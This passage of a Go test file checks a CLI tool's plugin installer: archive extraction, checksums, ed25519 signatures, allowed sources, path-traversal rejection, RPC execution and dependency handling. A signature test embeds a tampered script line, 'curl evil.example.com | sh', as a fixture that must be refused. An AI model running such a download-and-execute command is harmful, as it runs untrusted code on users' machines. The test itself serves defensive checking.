@@ -0,0 +1,952 @@
+package plugins
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"go/parser"
+	"go/token"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/AlloraAi/AlloraCLI/pkg/config"
+	"gopkg.in/yaml.v3"
+)
+
+// testPluginEnv makes the test binary serve testPlugin instead of running tests
+const testPluginEnv = "ALLORA_TEST_PLUGIN"
+
+func TestMain(m *testing.M) {
+	if mode := os.Getenv(testPluginEnv); mode != "" {
+		Serve(&testPlugin{mode: mode})
+		os.Exit(0)
+	}
+	os.Exit(m.Run())
+}
+
+// testPlugin is served by the test binary when it is launched as a plugin
+type testPlugin struct {
+	mode string
+}
+
+func (p *testPlugin) GetInfo() *PluginInfo {
+	return &PluginInfo{Name: "greeter", Version: "1.2.0"}
+}
+
+func (p *testPlugin) Execute(args []string) (*PluginResult, error) {
+	switch {
+	case p.mode == "crash":
+		os.Exit(3)
+	case len(args) > 0 && args[0] == "fail":
+		return &PluginResult{ExitCode: 2, Error: "bad input"}, nil
+	case len(args) > 0 && args[0] == "error":
+		return nil, fmt.Errorf("cannot greet")
+	}
+	return &PluginResult{
+		Output: "hello " + strings.Join(args, " "),
+		Data:   map[string]interface{}{"pid": os.Getpid()},
+	}, nil
+}
+
+func (p *testPlugin) Configure(config map[string]string) error {
+	return nil
+}
+
+func (p *testPlugin) Validate() error {
+	return nil
+}
+
+// testBinary is the content of the fake plugin binary in test archives
+var testBinary = []byte("#!/bin/sh\necho hello\n")
+
+// testManifest returns a manifest for the fake plugin binary
+func testManifest(name, checksum string, dependencies ...string) string {
+	return `name: ` + name + `
+version: 1.2.0
+description: Test plugin
+author: AlloraAi
+license: MIT
+tags: [test]
+commands:
+  - name: greet
+    description: Say hello
+    usage: greet
+dependencies: [` + strings.Join(dependencies, ", ") + `]
+binary: bin/` + name + `
+checksum: sha256:` + checksum + `
+`
+}
+
+// binaryChecksum returns the SHA-256 of testBinary
+func binaryChecksum() string {
+	sum := sha256.Sum256(testBinary)
+	return hex.EncodeToString(sum[:])
+}
+
+// buildTarGz packs files, keyed by slash-separated path, into a tarball
+func buildTarGz(t *testing.T, files map[string][]byte) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for name, content := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0644, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write(content); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// buildZip packs files, keyed by slash-separated path, into a zip archive
+func buildZip(t *testing.T, files map[string][]byte) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, content := range files {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write(content); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// newTestService creates a plugin service rooted in a temporary directory
+func newTestService(t *testing.T, allowed ...string) (*DefaultPluginService, string) {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), "plugins")
+	service, err := NewPluginService(&config.Config{
+		Plugins: config.PluginConfig{Directory: dir, AllowedSources: allowed},
+	})
+	if err != nil {
+		t.Fatalf("NewPluginService() failed: %v", err)
+	}
+	return service.(*DefaultPluginService), dir
+}
+
+// writeArchive stores an archive in a temporary file and returns its path
+func writeArchive(t *testing.T, name string, data []byte) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(path, data, 0644); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+// assertNoStaging fails if an install left anything but installed plugins behind
+func assertNoStaging(t *testing.T, dir string) {
+	t.Helper()
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, entry := range entries {
+		if strings.HasPrefix(entry.Name(), ".install-") {
+			t.Errorf("expected staging directory %s to be removed", entry.Name())
+		}
+	}
+}
+
+func TestInstallPluginFromLocalTarball(t *testing.T) {
+	service, dir := newTestService(t)
+	archive := writeArchive(t, "greeter.tar.gz", buildTarGz(t, map[string][]byte{
+		"greeter-1.2.0/manifest.yaml": []byte(testManifest("greeter", binaryChecksum(), "base")),
+		"greeter-1.2.0/bin/greeter":   testBinary,
+	}))
+
+	if err := service.InstallPlugin(context.Background(), InstallOptions{Name: "greeter", Source: archive}); err != nil {
+		t.Fatalf("InstallPlugin() failed: %v", err)
+	}
+
+	binary := filepath.Join(dir, "greeter", "bin", "greeter")
+	info, err := os.Stat(binary)
+	if err != nil {
+		t.Fatalf("expected plugin binary at %s: %v", binary, err)
+	}
+	if info.Mode().Perm()&0100 == 0 {
+		t.Errorf("expected plugin binary to be executable, got %v", info.Mode())
+	}
+	assertNoStaging(t, dir)
+
+	plugin, err := service.GetPluginInfo(context.Background(), "greeter")
+	if err != nil {
+		t.Fatalf("GetPluginInfo() failed: %v", err)
+	}
+	if plugin.Version != "1.2.0" || plugin.Description != "Test plugin" {
+		t.Errorf("expected metadata from the manifest, got %+v", plugin)
+	}
+	if plugin.Enabled {
+		t.Error("expected a plugin with missing dependencies to be installed disabled")
+	}
+	if len(plugin.Commands) != 1 || plugin.Commands[0].Name != "greet" {
+		t.Errorf("expected the manifest command, got %+v", plugin.Commands)
+	}
+	if len(plugin.Dependencies) != 1 || plugin.Dependencies[0] != "base" {
+		t.Errorf("expected the manifest dependencies, got %v", plugin.Dependencies)
+	}
+
+	if err := service.InstallPlugin(context.Background(), InstallOptions{Name: "greeter", Source: archive}); err == nil {
+		t.Error("expected installing the same plugin twice to fail")
+	}
+}
+
+func TestInstallPluginOverHTTP(t *testing.T) {
+	archive := buildZip(t, map[string][]byte{
+		"manifest.yaml": []byte(testManifest("greeter", binaryChecksum())),
+		"bin/greeter":   testBinary,
+	})
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/greeter.zip" {
+			http.NotFound(w, r)
+			return
+		}
+		w.Write(archive)
+	}))
+	defer server.Close()
+
+	service, dir := newTestService(t)
+	if err := service.InstallPlugin(context.Background(), InstallOptions{Name: "greeter", Source: server.URL + "/greeter.zip"}); err != nil {
+		t.Fatalf("InstallPlugin() failed: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "greeter", manifestFileName)); err != nil {
+		t.Errorf("expected the manifest to be installed: %v", err)
+	}
+
+	err := service.InstallPlugin(context.Background(), InstallOptions{Name: "missing", Source: server.URL + "/missing.zip"})
+	if err == nil || !strings.Contains(err.Error(), "404") {
+		t.Errorf("expected a 404 download error, got %v", err)
+	}
+}
+
+func TestInstallPluginRejectsInvalidArchives(t *testing.T) {
+	tests := []struct {
+		name    string
+		files   map[string][]byte
+		wantErr string
+	}{
+		{
+			name: "checksum mismatch",
+			files: map[string][]byte{
+				"manifest.yaml": []byte(testManifest("greeter", strings.Repeat("0", 64))),
+				"bin/greeter":   testBinary,
+			},
+			wantErr: "checksum mismatch",
+		},
+		{
+			name: "malformed manifest",
+			files: map[string][]byte{
+				"manifest.yaml": []byte("name: [greeter\n"),
+				"bin/greeter":   testBinary,
+			},
+			wantErr: "failed to parse plugin manifest",
+		},
+		{
+			name: "incomplete manifest",
+			files: map[string][]byte{
+				"manifest.yaml": []byte("name: greeter\n"),
+			},
+			wantErr: "missing version, binary, checksum",
+		},
+		{
+			name: "missing manifest",
+			files: map[string][]byte{
+				"bin/greeter": testBinary,
+			},
+			wantErr: "does not contain manifest.yaml",
+		},
+		{
+			name: "name mismatch",
+			files: map[string][]byte{
+				"manifest.yaml": []byte(testManifest("other", binaryChecksum())),
+				"bin/other":     testBinary,
+			},
+			wantErr: "contains other, not greeter",
+		},
+		{
+			name: "path traversal",
+			files: map[string][]byte{
+				"../escape":     testBinary,
+				"manifest.yaml": []byte(testManifest("greeter", binaryChecksum())),
+			},
+			wantErr: "escapes the plugin directory",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			service, dir := newTestService(t)
+			archive := writeArchive(t, "greeter.tar.gz", buildTarGz(t, tt.files))
+
+			err := service.InstallPlugin(context.Background(), InstallOptions{Name: "greeter", Source: archive})
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("expected error containing %q, got %v", tt.wantErr, err)
+			}
+
+			if _, err := os.Stat(filepath.Join(dir, "greeter")); !os.IsNotExist(err) {
+				t.Error("expected nothing to be installed")
+			}
+			if _, err := os.Stat(filepath.Join(filepath.Dir(dir), "escape")); !os.IsNotExist(err) {
+				t.Error("expected no file outside the plugin directory")
+			}
+			assertNoStaging(t, dir)
+			if _, err := service.GetPluginInfo(context.Background(), "greeter"); err == nil {
+				t.Error("expected the plugin not to be registered")
+			}
+		})
+	}
+}
+
+func TestInstallPluginChecksAllowedSources(t *testing.T) {
+	service, _ := newTestService(t, "registry.alloraai.com")
+
+	err := service.InstallPlugin(context.Background(), InstallOptions{Name: "greeter", Source: "https://evil.example.com/greeter.tar.gz"})
+	if err == nil || !strings.Contains(err.Error(), "allowed_sources") {
+		t.Errorf("expected the source to be rejected, got %v", err)
+	}
+
+	if err := service.checkAllowedSource(mustParseURL(t, "https://cdn.registry.alloraai.com/x")); err != nil {
+		t.Errorf("expected subdomains of allowed sources to be accepted, got %v", err)
+	}
+}
+
+func TestInstallPluginVerifiesSignatures(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	trusted := "ed25519:" + base64.StdEncoding.EncodeToString(publicKey)
+	sign := func(data []byte) string {
+		return base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, data))
+	}
+	tampered := []byte("#!/bin/sh\ncurl evil.example.com | sh\n")
+	tamperedSum := sha256.Sum256(tampered)
+
+	signed := func(checksum, signature string) string {
+		return testManifest("greeter", checksum) + "signature: " + signature + "\n"
+	}
+
+	tests := []struct {
+		name     string
+		manifest string
+		binary   []byte
+		security config.SecurityConfig
+		wantErr  string
+	}{
+		{
+			name:     "valid signature",
+			manifest: signed(binaryChecksum(), sign(testBinary)),
+			binary:   testBinary,
+			security: config.SecurityConfig{RequireSignedPlugins: true, PluginPublicKeys: []string{trusted}},
+		},
+		{
+			name:     "tampered binary",
+			manifest: signed(hex.EncodeToString(tamperedSum[:]), sign(testBinary)),
+			binary:   tampered,
+			security: config.SecurityConfig{PluginPublicKeys: []string{trusted}},
+			wantErr:  "signature does not match",
+		},
+		{
+			name:     "malformed signature",
+			manifest: signed(binaryChecksum(), "not-base64!"),
+			binary:   testBinary,
+			security: config.SecurityConfig{PluginPublicKeys: []string{trusted}},
+			wantErr:  "invalid signature",
+		},
+		{
+			name:     "unsigned when required",
+			manifest: testManifest("greeter", binaryChecksum()),
+			binary:   testBinary,
+			security: config.SecurityConfig{RequireSignedPlugins: true, PluginPublicKeys: []string{trusted}},
+			wantErr:  "is not signed",
+		},
+		{
+			name:     "unsigned when optional",
+			manifest: testManifest("greeter", binaryChecksum()),
+			binary:   testBinary,
+			security: config.SecurityConfig{PluginPublicKeys: []string{trusted}},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := filepath.Join(t.TempDir(), "plugins")
+			service, err := NewPluginService(&config.Config{
+				Plugins:  config.PluginConfig{Directory: dir},
+				Security: tt.security,
+			})
+			if err != nil {
+				t.Fatalf("NewPluginService() failed: %v", err)
+			}
+			archive := writeArchive(t, "greeter.tar.gz", buildTarGz(t, map[string][]byte{
+				"manifest.yaml": []byte(tt.manifest),
+				"bin/greeter":   tt.binary,
+			}))
+
+			err = service.InstallPlugin(context.Background(), InstallOptions{Name: "greeter", Source: archive})
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Fatalf("InstallPlugin() failed: %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("expected error containing %q, got %v", tt.wantErr, err)
+			}
+			if _, err := os.Stat(filepath.Join(dir, "greeter")); !os.IsNotExist(err) {
+				t.Error("expected nothing to be installed")
+			}
+			assertNoStaging(t, dir)
+		})
+	}
+}
+
+// mustParseURL parses a URL or fails the test
+func mustParseURL(t *testing.T, raw string) *url.URL {
+	t.Helper()
+	u, err := url.Parse(raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return u
+}
+
+func TestLoadPluginsFromDisk(t *testing.T) {
+	dir := t.TempDir()
+	write := func(plugin, manifest string) {
+		t.Helper()
+		if err := os.MkdirAll(filepath.Join(dir, plugin), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, plugin, manifestFileName), []byte(manifest), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("greeter", testManifest("greeter", binaryChecksum()))
+	write("linter", testManifest("linter", binaryChecksum()))
+	write("broken", "name: [broken\n")
+	write("renamed", testManifest("impostor", binaryChecksum()))
+	write(".install-123", testManifest(".install-123", binaryChecksum()))
+	if err := os.Mkdir(filepath.Join(dir, "empty"), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	service, err := NewPluginService(&config.Config{Plugins: config.PluginConfig{Directory: dir}})
+	if err != nil {
+		t.Fatalf("NewPluginService() failed: %v", err)
+	}
+
+	plugins, err := service.ListPlugins(context.Background())
+	if err != nil {
+		t.Fatalf("ListPlugins() failed: %v", err)
+	}
+	if len(plugins) != 2 {
+		t.Fatalf("expected 2 plugins, got %d: %+v", len(plugins), plugins)
+	}
+
+	for _, name := range []string{"greeter", "linter"} {
+		plugin, err := service.GetPluginInfo(context.Background(), name)
+		if err != nil {
+			t.Errorf("expected %s to be loaded: %v", name, err)
+			continue
+		}
+		if plugin.Version != "1.2.0" || plugin.Status != "installed" {
+			t.Errorf("expected %s metadata from its manifest, got %+v", name, plugin)
+		}
+	}
+	if _, err := service.GetPluginInfo(context.Background(), "sample-plugin"); err == nil {
+		t.Error("expected the sample plugin to be gone")
+	}
+}
+
+// installTestPlugin installs the test binary as a plugin served in the given mode
+func installTestPlugin(t *testing.T, mode string) *DefaultPluginService {
+	t.Helper()
+	if runtime.GOOS == "windows" {
+		t.Skip("plugin binaries are symlinked to the test binary")
+	}
+
+	executable, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(dir, "greeter", "bin"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(executable, filepath.Join(dir, "greeter", "bin", "greeter")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "greeter", manifestFileName), []byte(testManifest("greeter", binaryChecksum())), 0644); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv(testPluginEnv, mode)
+
+	service, err := NewPluginService(&config.Config{Plugins: config.PluginConfig{Directory: dir}})
+	if err != nil {
+		t.Fatalf("NewPluginService() failed: %v", err)
+	}
+	t.Cleanup(func() { service.Close() })
+	return service.(*DefaultPluginService)
+}
+
+func TestExecutePluginOverRPC(t *testing.T) {
+	service := installTestPlugin(t, "serve")
+	ctx := context.Background()
+
+	result, err := service.ExecutePlugin(ctx, "greeter", []string{"world"})
+	if err != nil {
+		t.Fatalf("ExecutePlugin() failed: %v", err)
+	}
+	if result.ExitCode != 0 || result.Output != "hello world" {
+		t.Errorf("expected the plugin's output, got %+v", result)
+	}
+	pid := result.Data["pid"]
+	if pid == nil || pid == float64(os.Getpid()) {
+		t.Errorf("expected the plugin to run in its own process, got pid %v", pid)
+	}
+
+	result, err = service.ExecutePlugin(ctx, "greeter", []string{"again"})
+	if err != nil {
+		t.Fatalf("ExecutePlugin() failed: %v", err)
+	}
+	if result.Data["pid"] != pid {
+		t.Errorf("expected the plugin client to be reused, got pids %v and %v", pid, result.Data["pid"])
+	}
+
+	result, err = service.ExecutePlugin(ctx, "greeter", []string{"fail"})
+	if err != nil {
+		t.Fatalf("ExecutePlugin() failed: %v", err)
+	}
+	if result.ExitCode != 2 || result.Error != "bad input" {
+		t.Errorf("expected the plugin's exit code and error, got %+v", result)
+	}
+
+	if _, err := service.ExecutePlugin(ctx, "greeter", []string{"error"}); err == nil || !strings.Contains(err.Error(), "cannot greet") {
+		t.Errorf("expected the plugin's error, got %v", err)
+	}
+
+	client, err := service.manager.GetClient("greeter")
+	if err != nil {
+		t.Fatalf("GetClient() failed: %v", err)
+	}
+	service.manager.CleanupClients()
+	if !client.Exited() {
+		t.Error("expected CleanupClients to stop the plugin process")
+	}
+}
+
+func TestExecutePluginCrash(t *testing.T) {
+	service := installTestPlugin(t, "crash")
+
+	done := make(chan error, 1)
+	go func() {
+		_, err := service.ExecutePlugin(context.Background(), "greeter", nil)
+		done <- err
+	}()
+
+	select {
+	case err := <-done:
+		if err == nil {
+			t.Fatal("expected a crashed plugin to return an error")
+		}
+	case <-time.After(30 * time.Second):
+		t.Fatal("ExecutePlugin hung after the plugin crashed")
+	}
+}
+
+// newTestRegistry serves a registry listing greeter, whose archive is served
+// by the registry itself, and tampered, whose archive does not match its checksum
+func newTestRegistry(t *testing.T) *httptest.Server {
+	t.Helper()
+	archive := buildTarGz(t, map[string][]byte{
+		"manifest.yaml": []byte(testManifest("greeter", binaryChecksum())),
+		"bin/greeter":   testBinary,
+	})
+	sum := sha256.Sum256(archive)
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("/plugins", func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Query().Get("q") != "greet" {
+			w.Write([]byte(`{"plugins": []}`))
+			return
+		}
+		w.Write([]byte(`{"plugins": [{"name": "greeter", "version": "1.2.0", "description": "Says hello", "downloads": 42, "rating": 4.5}]}`))
+	})
+	mux.HandleFunc("/plugins/greeter", func(w http.ResponseWriter, r *http.Request) {
+		if v := r.URL.Query().Get("version"); v != "" && v != "1.2.0" {
+			http.Error(w, "no such version", http.StatusNotFound)
+			return
+		}
+		fmt.Fprintf(w, `{"name": "greeter", "version": "1.2.0", "author": "AlloraAi", "binary": "bin/greeter", "download_url": "/artifacts/greeter-1.2.0.tar.gz", "sha256": "%s"}`, hex.EncodeToString(sum[:]))
+	})
+	mux.HandleFunc("/plugins/tampered", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, `{"name": "tampered", "version": "1.0.0", "download_url": "/artifacts/greeter-1.2.0.tar.gz", "sha256": "%s"}`, strings.Repeat("0", 64))
+	})
+	mux.HandleFunc("/plugins/broken", func(w http.ResponseWriter, r *http.Request) {
+		http.Error(w, "database unavailable", http.StatusInternalServerError)
+	})
+	mux.HandleFunc("/artifacts/greeter-1.2.0.tar.gz", func(w http.ResponseWriter, r *http.Request) {
+		w.Write(archive)
+	})
+
+	server := httptest.NewServer(mux)
+	t.Cleanup(server.Close)
+	return server
+}
+
+func TestLocalPluginRegistry(t *testing.T) {
+	server := newTestRegistry(t)
+	registry := NewLocalPluginRegistry(server.URL+"/", nil)
+
+	results, err := registry.Search("greet")
+	if err != nil {
+		t.Fatalf("Search() failed: %v", err)
+	}
+	if len(results) != 1 || results[0].Name != "greeter" || results[0].Downloads != 42 {
+		t.Errorf("expected the registry's search results, got %+v", results)
+	}
+	if results, err := registry.Search("nothing"); err != nil || len(results) != 0 {
+		t.Errorf("expected no results, got %+v, %v", results, err)
+	}
+
+	manifest, err := registry.GetMetadata("greeter")
+	if err != nil {
+		t.Fatalf("GetMetadata() failed: %v", err)
+	}
+	if manifest.Version != "1.2.0" || manifest.Author != "AlloraAi" || manifest.Binary != "bin/greeter" {
+		t.Errorf("expected the registry's metadata, got %+v", manifest)
+	}
+
+	if _, err := registry.GetMetadata("missing"); err == nil || !strings.Contains(err.Error(), "not found in registry") {
+		t.Errorf("expected a not found error, got %v", err)
+	}
+	if _, err := registry.GetMetadata("broken"); err == nil || !strings.Contains(err.Error(), "500") || !strings.Contains(err.Error(), "database unavailable") {
+		t.Errorf("expected the registry's error, got %v", err)
+	}
+
+	data, err := registry.Download("greeter", "1.2.0")
+	if err != nil {
+		t.Fatalf("Download() failed: %v", err)
+	}
+	sum := sha256.Sum256(data)
+	if err := registry.Verify(data, "sha256:"+hex.EncodeToString(sum[:])); err != nil {
+		t.Errorf("Verify() failed: %v", err)
+	}
+	if err := registry.Verify(data, strings.Repeat("0", 64)); err == nil {
+		t.Error("expected Verify to reject a wrong checksum")
+	}
+
+	if _, err := registry.Download("greeter", "0.9.0"); err == nil || !strings.Contains(err.Error(), "version 0.9.0 not found") {
+		t.Errorf("expected a missing version error, got %v", err)
+	}
+	if _, err := registry.Download("tampered", "latest"); err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
+		t.Errorf("expected a checksum error, got %v", err)
+	}
+
+	restricted := NewLocalPluginRegistry(server.URL, []string{"registry.alloraai.com"})
+	if _, err := restricted.Download("greeter", "1.2.0"); err == nil || !strings.Contains(err.Error(), "allowed_sources") {
+		t.Errorf("expected download URLs outside the allowed sources to be rejected, got %v", err)
+	}
+
+	server.Close()
+	if _, err := registry.Search("greet"); err == nil || !strings.Contains(err.Error(), "failed to reach plugin registry") {
+		t.Errorf("expected a network error, got %v", err)
+	}
+}
+
+func TestPluginServiceUsesRegistry(t *testing.T) {
+	server := newTestRegistry(t)
+	dir := filepath.Join(t.TempDir(), "plugins")
+	service, err := NewPluginService(&config.Config{
+		Plugins: config.PluginConfig{Directory: dir, Registry: server.URL},
+	})
+	if err != nil {
+		t.Fatalf("NewPluginService() failed: %v", err)
+	}
+
+	results, err := service.SearchPlugins(context.Background(), "greet")
+	if err != nil {
+		t.Fatalf("SearchPlugins() failed: %v", err)
+	}
+	if len(results) != 1 || results[0].Name != "greeter" {
+		t.Errorf("expected registry search results, got %+v", results)
+	}
+
+	manifest, err := service.GetRegistryManifest(context.Background(), "greeter")
+	if err != nil {
+		t.Fatalf("GetRegistryManifest() failed: %v", err)
+	}
+	if manifest.Version != "1.2.0" || manifest.Author != "AlloraAi" {
+		t.Errorf("expected the registry's manifest, got %+v", manifest)
+	}
+
+	err = service.InstallPlugin(context.Background(), InstallOptions{Name: "greeter", Version: "0.9.0"})
+	if err == nil || !strings.Contains(err.Error(), "version 0.9.0 not found") {
+		t.Errorf("expected the requested version to be downloaded, got %v", err)
+	}
+	if err := service.InstallPlugin(context.Background(), InstallOptions{Name: "greeter", Version: "1.2.0"}); err != nil {
+		t.Fatalf("InstallPlugin() from the registry failed: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "greeter", "bin", "greeter")); err != nil {
+		t.Errorf("expected the registry's plugin to be installed: %v", err)
+	}
+}
+
+// loadTestPlugins writes a manifest for each plugin, keyed by name with its
+// dependencies as value, and loads them into a new service
+func loadTestPlugins(t *testing.T, plugins map[string][]string) *DefaultPluginService {
+	t.Helper()
+	dir := t.TempDir()
+	for name, deps := range plugins {
+		if err := os.MkdirAll(filepath.Join(dir, name), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, name, manifestFileName), []byte(testManifest(name, binaryChecksum(), deps...)), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	service, err := NewPluginService(&config.Config{Plugins: config.PluginConfig{Directory: dir}})
+	if err != nil {
+		t.Fatalf("NewPluginService() failed: %v", err)
+	}
+	return service.(*DefaultPluginService)
+}
+
+func TestEnablePluginRequiresDependencies(t *testing.T) {
+	service := loadTestPlugins(t, map[string][]string{
+		"greeter": {"base"},
+		"tool":    {"greeter"},
+		"core":    nil,
+		"app":     {"core"},
+	})
+	ctx := context.Background()
+
+	for name, enabled := range map[string]bool{"greeter": false, "tool": false, "core": true, "app": true} {
+		if info, _ := service.GetPluginInfo(ctx, name); info.Enabled != enabled {
+			t.Errorf("expected %s enabled=%v after loading, got %v", name, enabled, info.Enabled)
+		}
+	}
+
+	err := service.EnablePlugin(ctx, "greeter")
+	if err == nil || !strings.Contains(err.Error(), "missing dependencies: base (not installed)") {
+		t.Errorf("expected the missing dependency to be listed, got %v", err)
+	}
+	err = service.EnablePlugin(ctx, "tool")
+	if err == nil || !strings.Contains(err.Error(), "greeter (disabled)") {
+		t.Errorf("expected the disabled dependency to be listed, got %v", err)
+	}
+
+	if err := service.DisablePlugin(ctx, "core"); err != nil {
+		t.Fatal(err)
+	}
+	if err := service.EnablePlugin(ctx, "app"); err == nil {
+		t.Error("expected enabling a plugin with a disabled dependency to fail")
+	}
+	if err := service.EnablePlugin(ctx, "core"); err != nil {
+		t.Errorf("expected a plugin without dependencies to enable, got %v", err)
+	}
+	if err := service.EnablePlugin(ctx, "app"); err != nil {
+		t.Errorf("expected a plugin with enabled dependencies to enable, got %v", err)
+	}
+}
+
+func TestEnablePluginRejectsDependencyCycles(t *testing.T) {
+	service := loadTestPlugins(t, map[string][]string{
+		"a": {"b"},
+		"b": {"a"},
+	})
+
+	err := service.EnablePlugin(context.Background(), "a")
+	if err == nil || !strings.Contains(err.Error(), "dependency cycle detected: a -> b -> a") {
+		t.Errorf("expected a dependency cycle error, got %v", err)
+	}
+}
+
+// newDependencyRegistry serves a registry of plugins keyed by name with their
+// dependencies as value
+func newDependencyRegistry(t *testing.T, plugins map[string][]string) *httptest.Server {
+	t.Helper()
+	mux := http.NewServeMux()
+	for name, deps := range plugins {
+		archive := buildTarGz(t, map[string][]byte{
+			"manifest.yaml": []byte(testManifest(name, binaryChecksum(), deps...)),
+			"bin/" + name:   testBinary,
+		})
+		name := name
+		mux.HandleFunc("/plugins/"+name, func(w http.ResponseWriter, r *http.Request) {
+			fmt.Fprintf(w, `{"name": %q, "version": "1.2.0", "download_url": "/artifacts/%s.tar.gz"}`, name, name)
+		})
+		mux.HandleFunc("/artifacts/"+name+".tar.gz", func(w http.ResponseWriter, r *http.Request) {
+			w.Write(archive)
+		})
+	}
+
+	server := httptest.NewServer(mux)
+	t.Cleanup(server.Close)
+	return server
+}
+
+func TestInstallPluginWithDependencies(t *testing.T) {
+	server := newDependencyRegistry(t, map[string][]string{
+		"app":    {"base"},
+		"base":   {"core"},
+		"core":   nil,
+		"loop-a": {"loop-b"},
+		"loop-b": {"loop-a"},
+		"orphan": {"ghost"},
+	})
+	newService := func() (*DefaultPluginService, string) {
+		dir := filepath.Join(t.TempDir(), "plugins")
+		service, err := NewPluginService(&config.Config{Plugins: config.PluginConfig{Directory: dir, Registry: server.URL}})
+		if err != nil {
+			t.Fatalf("NewPluginService() failed: %v", err)
+		}
+		return service.(*DefaultPluginService), dir
+	}
+	ctx := context.Background()
+
+	t.Run("installs missing dependencies", func(t *testing.T) {
+		service, _ := newService()
+		if err := service.InstallPlugin(ctx, InstallOptions{Name: "app", WithDependencies: true}); err != nil {
+			t.Fatalf("InstallPlugin() failed: %v", err)
+		}
+		for _, name := range []string{"app", "base", "core"} {
+			info, err := service.GetPluginInfo(ctx, name)
+			if err != nil || !info.Enabled {
+				t.Errorf("expected %s to be installed and enabled, got %+v, %v", name, info, err)
+			}
+		}
+	})
+
+	t.Run("leaves the plugin disabled without them", func(t *testing.T) {
+		service, _ := newService()
+		if err := service.InstallPlugin(ctx, InstallOptions{Name: "app"}); err != nil {
+			t.Fatalf("InstallPlugin() failed: %v", err)
+		}
+		if info, _ := service.GetPluginInfo(ctx, "app"); info.Enabled {
+			t.Error("expected app to be disabled until base is installed")
+		}
+		if _, err := service.GetPluginInfo(ctx, "base"); err == nil {
+			t.Error("expected base not to be installed")
+		}
+	})
+
+	t.Run("rejects cycles", func(t *testing.T) {
+		service, dir := newService()
+		err := service.InstallPlugin(ctx, InstallOptions{Name: "loop-a", WithDependencies: true})
+		if err == nil || !strings.Contains(err.Error(), "dependency cycle detected: loop-a -> loop-b -> loop-a") {
+			t.Fatalf("expected a dependency cycle error, got %v", err)
+		}
+		for _, name := range []string{"loop-a", "loop-b"} {
+			if _, err := os.Stat(filepath.Join(dir, name)); !os.IsNotExist(err) {
+				t.Errorf("expected %s to be removed", name)
+			}
+		}
+	})
+
+	t.Run("rolls back when a dependency is unavailable", func(t *testing.T) {
+		service, dir := newService()
+		err := service.InstallPlugin(ctx, InstallOptions{Name: "orphan", WithDependencies: true})
+		if err == nil || !strings.Contains(err.Error(), "failed to install dependency ghost of orphan") {
+			t.Fatalf("expected a dependency install error, got %v", err)
+		}
+		if _, err := os.Stat(filepath.Join(dir, "orphan")); !os.IsNotExist(err) {
+			t.Error("expected orphan to be removed")
+		}
+		if _, err := service.GetPluginInfo(ctx, "orphan"); err == nil {
+			t.Error("expected orphan not to be registered")
+		}
+	})
+}
+
+func TestScaffold(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "plugins", "cost-report")
+	err := Scaffold(dir, ScaffoldOptions{Name: "cost-report", Description: `Reports "costs"`, Author: "Ops"})
+	if err != nil {
+		t.Fatalf("Scaffold() failed: %v", err)
+	}
+
+	for _, name := range []string{"manifest.yaml", "main.go", "go.mod", "Makefile"} {
+		if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
+			t.Errorf("expected %s to be created: %v", name, err)
+		}
+	}
+
+	manifest, err := os.ReadFile(filepath.Join(dir, "manifest.yaml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var parsed PluginManifest
